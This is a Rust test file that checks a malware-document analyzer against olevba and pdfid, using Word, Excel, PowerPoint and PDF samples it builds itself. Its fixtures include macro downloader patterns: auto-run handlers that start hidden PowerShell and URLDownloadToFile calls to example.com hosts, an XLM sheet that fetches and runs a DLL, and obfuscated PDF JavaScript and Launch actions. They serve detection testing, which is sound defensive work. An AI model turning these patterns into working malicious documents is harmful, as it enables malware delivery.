//! nestbox's document analyzers against olevba (oletools) and pdfid on documents built
//! here: the same modules and source, the same auto-exec and suspicious keywords, the same
//! PDF keyword counts (including `#xx`-obfuscated names).
//!
//! Ignored by `cargo test` because it needs the reference tools: `tests/docs/run.sh`
//! (part of `make test`) makes a venv with them and runs it with `--ignored`. Once run,
//! a missing tool is a failure, never a skip.

use std::collections::BTreeSet;
use std::path::PathBuf;
use std::process::Command;

use nestbox_analyzers::documents::analyze;
use serde_json::Value;

mod docbuild;

fn reference(paths: &[PathBuf]) -> Value {
    let python = std::env::var("NESTBOX_DOCREF_PYTHON")
        .expect("NESTBOX_DOCREF_PYTHON: run tests/docs/run.sh, which sets up the reference tools");
    let script = std::env::var("NESTBOX_DOCREF_SCRIPT").expect("NESTBOX_DOCREF_SCRIPT");
    let out = Command::new(python)
        .arg(script)
        .args(paths)
        .output()
        .expect("running the reference script");
    assert!(
        out.status.success(),
        "reference script failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("reference JSON")
}

/// Macro sources exercising olevba's keyword lists: auto-exec names, ActiveX event
/// handlers, obfuscation, downloaders, word-boundary edge cases (`Print #`, `Shell.Application`,
/// keywords inside identifiers that must not match).
const MODULES: &[(&str, &str)] = &[
    (
        "ThisDocument",
        "Private Sub Document_Open()\r\n    Runner\r\nEnd Sub\r\nSub Workbook_Open()\r\nEnd Sub\r\n",
    ),
    (
        "Module1",
        "Sub AutoOpen()\r\n  Dim x\r\n  x = StrReverse(\"exe.a\") & Chr(65) & ChrW(66)\r\n  \
         Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run \"powershell -noprofile -EncodedCommand AAAA\", vbHide\r\n  \
         URLDownloadToFileA 0, \"http://a.example.com/b\", Environ(\"TEMP\") & \"\\b.exe\", 0, 0\r\nEnd Sub\r\n",
    ),
    (
        "Module2",
        "Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr) As LongPtr\r\n\
         Sub CommandButton1_Click()\r\n  Open \"c:\\x.txt\" For Binary As #1\r\n  Print #1, \"data\"\r\n  Close #1\r\n  \
         Set s = CreateObject(\"Shell.Application\")\r\n  s.ShellExecute \"cmd.exe\"\r\n  \
         RunnerX = 1 ' identifiers that only contain keywords: RunnerX, MyShellVar, Kill_it\r\n  \
         Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\n  h.setRequestHeader \"User-Agent\", \"x\"\r\n  \
         ActiveDocument.VBProject.VBComponents(1).CodeModule.AddFromString \"x\"\r\nEnd Sub\r\n",
    ),
];

#[test]
#[ignore = "needs olevba and pdfid: run tests/docs/run.sh"]
fn vba_and_pdf_match_olevba_and_pdfid() {
    let dir = tempfile::tempdir().unwrap();
    let mut files: Vec<(PathBuf, Vec<u8>)> = Vec::new();
    files.push((
        dir.path().join("word97.doc"),
        docbuild::word97_with_macros(MODULES),
    ));
    files.push((
        dir.path().join("macro.docm"),
        docbuild::docm(&MODULES[1..], "http://t.example.com/t.dotm"),
    ));
    let mut long = String::new();
    for i in 0..600 {
        long.push_str(&format!(
            "Sub S{i}()\r\n  MsgBox \"line {i} of a long module\"\r\nEnd Sub\r\n"
        ));
    }
    files.push((
        dir.path().join("long.doc"),
        docbuild::word97_with_macros(&[("Module1", long.as_str())]),
    ));
    files.push((
        dir.path().join("js.pdf"),
        docbuild::pdf_with_js("app.alert(1);", "http://u.example.com/x"),
    ));
    // Name obfuscation, case variants pdfid must not count, /Colors, ObjStm, comments.
    files.push((
        dir.path().join("obfuscated.pdf"),
        b"%PDF-1.5\n1 0 obj << /Type /Catalog /Open#41ction 2 0 R /#41A << >> /AcroForm 3 0 R >> endobj\n\
          2 0 obj << /S /#4a#61#76#61#53cript /J#53 (app.alert\\(1\\)) /js (lower) /JavaScript2 1 >> endobj\n\
          3 0 obj << /XFA 4 0 R /Launch << /F (cmd.exe) >> /EmbeddedFile 5 0 R /RichMedia 1 >> endobj\n\
          4 0 obj << /Type /ObjStm /N 0 /First 0 /Colors 16777217 /Colors 16777216 /Colors 3 /JBIG2Decode 1 >> stream\nxx\nendstream endobj\n\
          % a comment with /JS inside\nxref\ntrailer << /Encrypt 6 0 R >>\nstartxref\n0\n%%EOF\ntrailing%%EOF\n"
            .to_vec(),
    ));
    files.extend(office_metadata_and_xlm_samples(dir.path()));
    for (p, d) in &files {
        std::fs::write(p, d).unwrap();
        if let Ok(keep) = std::env::var("NESTBOX_DOCREF_KEEP") {
            std::fs::copy(p, std::path::Path::new(&keep).join(p.file_name().unwrap())).unwrap();
        }
    }
    let paths: Vec<PathBuf> = files.iter().map(|(p, _)| p.clone()).collect();
    let want = reference(&paths);

    for (path, data) in &files {
        let name = path.file_name().unwrap().to_str().unwrap();
        let r = &want[path.to_str().unwrap()];
        let got = analyze(data, name);
        if name.ends_with(".pdf") {
            let pdf = &got.sections["pdf"];
            assert_eq!(pdf["Info"]["PDF Header"], r["header"], "{name}");
            for (k, v) in r["keywords"].as_object().unwrap() {
                let count = &pdf["Keywords"][k];
                assert_eq!(count, &v[0], "{name}: count of {k}");
                let hex = pdf["HexcodeKeywords"].get(k).cloned().unwrap_or(0.into());
                assert_eq!(hex, v[1], "{name}: hex-coded count of {k}");
            }
            assert_eq!(pdf["Info"]["Count %% EOF"], r["eof"], "{name}: %%EOF");
            if name == "obfuscated.pdf" {
                // The cases the file exists for were exercised, not vacuously equal.
                assert_eq!(pdf["HexcodeKeywords"]["/OpenAction"], 1);
                assert_eq!(pdf["HexcodeKeywords"]["/JavaScript"], 1);
                assert_eq!(pdf["Keywords"]["/Colors > 2^24"], 1);
            }
            println!("{name}: pdfid keyword counts agree");
            continue;
        }
        let office = &got.sections["office"];
        check_metadata(name, office, &r["metadata"]);
        if name.ends_with(".xls") {
            check_xlm(name, office, r);
            continue;
        }
        if r["macros"].as_array().unwrap().is_empty() {
            assert!(office.get("Macro").is_none(), "{name}: {office}");
            continue;
        }
        let want_mods = r["macros"].as_array().unwrap();
        let code = office["Macro"]["Code"].as_object().expect("macros found");
        assert_eq!(code.len(), want_mods.len(), "{name}: module count");
        let analysis = &office["Macro"]["Analysis"];
        let ours = |k: &str| -> BTreeSet<String> {
            analysis[k]
                .as_array()
                .map(|a| {
                    a.iter()
                        .map(|p| p[0].as_str().unwrap().to_owned())
                        .collect()
                })
                .unwrap_or_default()
        };
        let mut auto = BTreeSet::new();
        let mut sus = BTreeSet::new();
        for (i, m) in want_mods.iter().enumerate() {
            let mine = &code[&format!("Macro{}", i + 1)][0];
            assert_eq!(mine[0], m["stream"], "{name}: stream of module {i}");
            assert_eq!(mine[1], m["code"], "{name}: source of {}", m["stream"]);
            for k in m["autoexec"].as_array().unwrap() {
                auto.insert(k.as_str().unwrap().to_owned());
            }
            for k in m["suspicious"].as_array().unwrap() {
                sus.insert(k.as_str().unwrap().to_owned());
            }
        }
        assert_eq!(ours("AutoExec"), auto, "{name}: AutoExec");
        assert_eq!(ours("Suspicious"), sus, "{name}: Suspicious");
        println!(
            "{name}: {} modules, {} autoexec, {} suspicious keywords agree with olevba",
            want_mods.len(),
            auto.len(),
            sus.len()
        );
    }
}

/// 2024-02-29 12:34:56.5 UTC as a FILETIME.
const FILETIME: u64 = (1_709_210_096 + 11_644_473_600) * 10_000_000 + 5_000_000;

/// A Word 97 file with both property sets, a docx with docProps, a PowerPoint 97 file
/// with a VBA project in an ExOleObjStg record, and an Excel 97 file with a very hidden
/// Excel 4.0 macro sheet calling EXEC, CALL and REGISTER.
fn office_metadata_and_xlm_samples(dir: &std::path::Path) -> Vec<(PathBuf, Vec<u8>)> {
    use docbuild::Prop;
    let summary = docbuild::property_set_stream(
        docbuild::FMTID_SUMMARY,
        &[
            (1, Prop::I2(1252)),
            (2, Prop::Str("Quarterly invoice")),
            (4, Prop::Str("J\u{e9}r\u{f4}me Author")),
            (8, Prop::Str("Last Saver")),
            (9, Prop::Str("7")),
            (10, Prop::Time(36_000_000_000)),
            (12, Prop::Time(FILETIME)),
            (13, Prop::Time(FILETIME + 864_000_000_000)),
            (14, Prop::I4(3)),
            (15, Prop::I4(0)),
            (18, Prop::Str("Microsoft Office Word")),
            (19, Prop::I4(0)),
        ],
    );
    let docsum = docbuild::property_set_stream(
        docbuild::FMTID_DOCSUM,
        &[
            (1, Prop::I2(1252)),
            (5, Prop::I4(12)),
            (15, Prop::Str("ACME Corp")),
            (16, Prop::Bool(false)),
            (19, Prop::Bool(true)),
            (23, Prop::I4(0x000f_0000)),
        ],
    );
    let word = docbuild::with_metadata(docbuild::word97_with_macros(MODULES), &summary, &docsum);
    let core = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>Report &amp; Plan</dc:title><dc:subject></dc:subject><dc:creator>Alice</dc:creator><cp:lastModifiedBy>Bob</cp:lastModifiedBy><cp:revision>4</cp:revision><dcterms:created xsi:type="dcterms:W3CDTF">2024-01-02T03:04:05Z</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">2024-01-03T03:04:05Z</dcterms:modified></cp:coreProperties>"#;
    let app = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><Template>Normal.dotm</Template><TotalTime>12</TotalTime><Pages>1</Pages><Application>Microsoft Office Word</Application><DocSecurity>0</DocSecurity><HeadingPairs><vt:vector size="2" baseType="variant"><vt:variant><vt:lpstr>Title</vt:lpstr></vt:variant></vt:vector></HeadingPairs><Company>ACME Corp</Company><AppVersion>16.0000</AppVersion></Properties>"#;
    let docx = docbuild::docx_with_props(core, app);
    let ppt = docbuild::ppt97_with_macros(&MODULES[1..2]);
    let mut call = docbuild::ptg_str("urlmon");
    call.extend(docbuild::ptg_str("URLDownloadToFileA"));
    call.extend(docbuild::ptg_str("JJCCJJ"));
    call.extend(docbuild::ptg_int(0));
    call.extend(docbuild::ptg_str("http://x.example.com/p.dll"));
    call.extend(docbuild::ptg_funcvar(5, 0x0096)); // CALL
    let mut exec = docbuild::ptg_str("rundll32.exe p.dll,Start");
    exec.extend(docbuild::ptg_funcvar(1, 0x006e)); // EXEC
    let mut reg = docbuild::ptg_str("Kernel32");
    reg.extend(docbuild::ptg_str("WinExec"));
    reg.extend(docbuild::ptg_funcvar(2, 0x0095)); // REGISTER
    let halt = docbuild::ptg_funcvar(0, 0x0036); // HALT
    let xls = docbuild::xls_with_xlm("Macro1", true, &[call, exec, reg, halt]);
    vec![
        (dir.join("meta.doc"), word),
        (dir.join("props.docx"), docx),
        (dir.join("vba.ppt"), ppt),
        (dir.join("xlm.xls"), xls),
    ]
}

/// Metadata equals the reference exactly (both property sets, or both docProps parts).
fn check_metadata(name: &str, office: &Value, want: &Value) {
    let Some(want) = want.as_object().filter(|w| !w.is_empty()) else {
        return;
    };
    for (k, v) in want {
        assert_eq!(&office["Metadata"][k], v, "{name}: Metadata.{k}");
    }
    let n: usize = want
        .values()
        .map(|v| v.as_object().map_or(0, |o| o.len()))
        .sum();
    println!("{name}: {n} metadata properties agree with olefile / CAPE");
}

/// The XLM pass agrees with olevba's plugin_biff: macro sheets found with the same
/// BOUNDSHEET description, and the same olevba suspicious keywords on the listing.
fn check_xlm(name: &str, office: &Value, r: &Value) {
    assert_eq!(r["xlm"], true, "{name}: olevba finds XLM");
    let lines: Vec<&str> = r["xlm_lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l.as_str().unwrap())
        .collect();
    let xlm = &office["XLM"];
    for s in xlm["Sheets"].as_array().unwrap() {
        // plugin_biff reads the name's flags byte as its first character and so drops
        // the last one ("\0Sheet" for "Sheet1"): compare the part both print.
        let sheet = s["name"].as_str().unwrap();
        let desc = format!(
            "{}, {} - ",
            s["type"].as_str().unwrap(),
            s["visibility"].as_str().unwrap()
        );
        let shown = &sheet[..sheet.len() - 1];
        assert!(
            lines
                .iter()
                .any(|l| l.contains(&desc) && l.ends_with(shown)),
            "{name}: {desc:?}{sheet} not in {lines:#?}"
        );
    }
    let funcs: BTreeSet<&str> = xlm["Formulas"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| {
            f["functions"]
                .as_array()
                .unwrap()
                .iter()
                .map(|x| x.as_str().unwrap())
        })
        .collect();
    for f in ["CALL", "EXEC", "REGISTER", "HALT"] {
        assert!(funcs.contains(f), "{name}: {f} in {funcs:?}");
        assert!(
            lines.iter().any(|l| l.contains(f)),
            "{name}: olevba lists {f}: {lines:#?}"
        );
    }
    let want: BTreeSet<String> = r["macros"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["stream"] == "xlm_macro.txt")
        .flat_map(|m| {
            m["suspicious"]
                .as_array()
                .unwrap()
                .iter()
                .map(|k| k.as_str().unwrap().to_owned())
        })
        .collect();
    let ours: BTreeSet<String> = office["Macro"]["Analysis"]["Suspicious"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p[0].as_str().unwrap().to_owned())
        .collect();
    assert!(!want.is_empty());
    assert_eq!(ours, want, "{name}: suspicious keywords of the XLM listing");
    println!(
        "{name}: XLM sheets, functions and {} keywords agree with olevba",
        want.len()
    );
}
